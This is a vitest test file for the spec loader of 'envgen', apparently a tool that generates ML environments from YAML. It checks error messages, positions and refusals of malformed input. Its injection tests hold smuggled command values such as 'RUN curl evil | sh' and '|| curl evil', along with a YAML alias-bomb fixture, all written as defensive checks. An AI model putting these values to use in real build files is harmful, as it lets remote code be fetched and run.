import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createNodeIo } from '../../src/io.js';
import { type Problem, UserError } from '../../src/problem.js';
import { loadSpec, parseSpecText } from '../../src/spec/load-spec.js';
import { tmpDir } from '../helpers/tmp-dir.js';

function problemsOf(text: string): Problem[] {
  try {
    parseSpecText(text, 'envgen.yaml');
  } catch (error) {
    if (error instanceof UserError) return error.problems;
    throw error;
  }
  throw new Error('expected the spec to be refused');
}

const model = (body: string): string => `version: 1\nmodels:\n  m:\n${body}`;

describe('valid specs', () => {
  it('reads unquoted versions as written: python 3.10 stays 3.10, gpus 8.0 stays 8.0', () => {
    const { spec } = parseSpecText(
      'version: 1\nfleet:\n  gpus: [8.0, 9.0]\nmodels:\n  m:\n    python: 3.10\n    torch: 2.1\n    cuda: 11.8\n    serve:\n      command: [python, app.py]\n      port: 8080\n',
      'envgen.yaml',
    );
    expect(spec.models.m?.python).toBe('3.10');
    expect(spec.models.m?.torch).toBe('2.1');
    expect(spec.models.m?.cuda).toBe('11.8');
    expect(spec.fleet?.gpus).toEqual(['8.0', '9.0']);
    expect(spec.models.m?.serve?.port).toBe(8080);
  });

  it('keeps positions for messages', () => {
    const loaded = parseSpecText(model('    torch: "2.1"\n'), 'envgen.yaml');
    expect(loaded.locate(['models', 'm', 'torch'])).toEqual({ line: 4, column: 12 });
  });
});

describe('bad input is refused with file, line, column and the accepted form', () => {
  it.each([
    [
      'bundle naming an unknown model',
      'version: 1\nmodels:\n  chat: {}\nbundles:\n  pack: [chta]\n',
      'spec/bundle-unknown-model',
      5,
      10,
      'chat',
    ],
    [
      'bundle named like a model',
      'version: 1\nmodels:\n  chat: {}\nbundles:\n  chat: [chat]\n',
      'spec/bundle-name-taken',
      5,
      9,
      'another name',
    ],
    [
      'bundle across platforms',
      'version: 1\nmodels:\n  a: {}\n  b: {platform: linux-aarch64}\nbundles:\n  pack: [a, b]\n',
      'spec/bundle-platforms',
      6,
      9,
      'one platform',
    ],
    [
      'health without a port',
      model('    serve:\n      command: [x]\n      health: /h\n'),
      'spec/missing-key',
      6,
      7,
      'port',
    ],
    [
      'model name ending in a separator',
      'version: 1\nmodels:\n  chat-: {}\n',
      'spec/invalid-name',
      3,
      3,
      'lower-case',
    ],
    [
      'unknown key with a suggestion',
      model('    toch: "2.1"\n'),
      'spec/unknown-key',
      4,
      5,
      'torch',
    ],
    [
      'enum typo with a suggestion',
      model('    source: conda-froge\n'),
      'spec/invalid-value',
      4,
      13,
      'conda-forge',
    ],
    [
      'invalid model name',
      'version: 1\nmodels:\n  Sentiment:\n    torch: "2.1"\n',
      'spec/invalid-name',
      3,
      3,
      'lower-case',
    ],
    [
      'model name with a slash',
      'version: 1\nmodels:\n  "a/b": {}\n',
      'spec/invalid-name',
      3,
      3,
      'lower-case',
    ],
    ['missing models', 'version: 1\n', 'spec/missing-key', 1, 1, 'models'],
    ['wrong version', 'version: 2\nmodels:\n  m: {}\n', 'spec/invalid-value', 1, 10, '1'],
    [
      'cuda without quotes that is not X.Y',
      model('    cuda: 12\n'),
      'spec/invalid-value',
      4,
      11,
      'X.Y',
    ],
    [
      'boolean given as yes',
      model('    vision: yes\n'),
      'spec/invalid-type',
      4,
      13,
      'true or false',
    ],
    [
      'port out of range',
      model('    serve:\n      command: [x]\n      port: 70000\n'),
      'spec/invalid-value',
      6,
      13,
      '65535',
    ],
    [
      'conda entry that is not a match spec',
      model('    conda: ["numpy >>1"]\n'),
      'spec/invalid-match-spec',
      4,
      13,
      'match spec',
    ],
    [
      'pip entry that is not a requirement',
      model('    pip: ["foo bar"]\n'),
      'spec/invalid-pip-requirement',
      4,
      11,
      'PEP 508',
    ],
    [
      'pip option instead of a requirement',
      model('    pip: ["--index-url https://x"]\n'),
      'spec/invalid-pip-requirement',
      4,
      11,
      'index',
    ],
    [
      'torch in the conda list',
      model('    conda: [pytorch]\n'),
      'spec/pinned-by-envgen',
      4,
      13,
      'torch:',
    ],
    [
      'torchvision in the pip list',
      model('    pip: [torchvision==0.16]\n'),
      'spec/pinned-by-envgen',
      4,
      11,
      'vision',
    ],
    [
      'fleet driver that is not a version',
      'version: 1\nfleet:\n  driver: latest\nmodels:\n  m: {}\n',
      'spec/invalid-value',
      3,
      11,
      'nvidia-smi',
    ],
  ])('%s', (_name, text, ruleId, line, column, accepted) => {
    const problems = problemsOf(text);
    expect(problems).toHaveLength(1);
    const [problem] = problems as [Problem];
    expect(problem.ruleId).toBe(ruleId);
    expect([problem.line, problem.column]).toEqual([line, column]);
    expect(problem.file).toBe('envgen.yaml');
    expect(problem.fix).toContain(accepted);
  });

  it('reports every problem of a file at once, in line order', () => {
    const problems = problemsOf(model('    toch: "2.1"\n    source: nope\n    cuda: 12\n'));
    expect(problems.map((p) => [p.ruleId, p.line])).toEqual([
      ['spec/unknown-key', 4],
      ['spec/invalid-value', 5],
      ['spec/invalid-value', 6],
    ]);
  });

  it.each([
    ['a newline in a conda entry', model('    conda: ["numpy\\nRUN curl evil | sh"]\n')],
    ['a newline in a pip entry', model('    pip: ["flask\\nENV X=1"]\n')],
    [
      'a newline in a serve argument',
      model('    serve:\n      command: ["python", "app.py\\nUSER root"]\n'),
    ],
    ['a carriage return in the torch spec', model('    torch: "2.1\\r"\n')],
    [
      'a health path with a quote',
      model('    serve:\n      command: [x]\n      health: "/x\\" || curl evil"\n'),
    ],
    ['a NUL in a package', model('    conda: ["numpy\\u0000"]\n')],
  ])('refuses values that could inject a line or break quoting: %s', (_name, text) => {
    const problems = problemsOf(text);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.every((p) => p.ruleId.startsWith('spec/'))).toBe(true);
  });

  it('refuses YAML syntax errors at their line', () => {
    const [problem] = problemsOf('version: 1\nmodels:\n  m: [\n') as [Problem];
    expect(problem.ruleId).toBe('spec/yaml-syntax');
    expect(problem.line).toBeGreaterThanOrEqual(3);
  });

  it('refuses duplicate keys', () => {
    const [problem] = problemsOf('version: 1\nversion: 1\nmodels:\n  m: {}\n') as [Problem];
    expect(problem.ruleId).toBe('spec/yaml-syntax');
    expect(problem.line).toBe(2);
  });

  it('refuses an alias bomb without expanding it', () => {
    const lines = ['version: 1', 'a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 0; i < 8; i++) {
      const prev = String.fromCharCode(97 + i);
      const next = String.fromCharCode(98 + i);
      lines.push(
        `${next}: &${next} [*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev},*${prev}]`,
      );
    }
    lines.push('models:\n  m: {}');
    const [problem] = problemsOf(lines.join('\n')) as [Problem];
    expect(problem.ruleId).toBe('spec/alias-limit');
  });

  it('refuses several YAML documents', () => {
    const [problem] = problemsOf('version: 1\nmodels:\n  m: {}\n---\nversion: 1\n') as [Problem];
    expect(problem.ruleId).toBe('spec/multiple-documents');
    expect(problem.line).toBe(4);
  });

  it.each([
    ['an empty file', ''],
    ['only comments', '# nothing here\n\n# yet\n'],
  ])('refuses %s', (_name, text) => {
    expect(problemsOf(text)[0]?.ruleId).toBe('spec/empty');
  });
});

describe('reading the file', () => {
  const io = createNodeIo();

  async function loadError(dir: string, name = 'envgen.yaml'): Promise<Problem> {
    try {
      await loadSpec({ ...io, cwd: dir }, join(dir, name));
    } catch (error) {
      if (error instanceof UserError) return error.problems[0] as Problem;
      throw error;
    }
    throw new Error('expected the spec to be refused');
  }

  it('a missing spec says how to make one', async () => {
    const problem = await loadError(tmpDir());
    expect(problem.ruleId).toBe('spec/not-found');
    expect(problem.fix).toContain('envgen init');
  });

  it('a binary file is refused', async () => {
    const dir = tmpDir({ 'envgen.yaml': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x00, 0x01]) });
    expect((await loadError(dir)).ruleId).toBe('spec/not-text');
  });

  it('a file that is not UTF-8 is refused', async () => {
    const dir = tmpDir({ 'envgen.yaml': Buffer.from([0x76, 0x65, 0x72, 0xff, 0xfe, 0x0a]) });
    expect((await loadError(dir)).ruleId).toBe('spec/not-text');
  });

  it('names the file relative to the working directory', async () => {
    const dir = tmpDir({ 'envgen.yaml': 'version: 1\n' });
    const problem = await loadError(dir);
    expect(problem.file).toBe('envgen.yaml');
  });
});
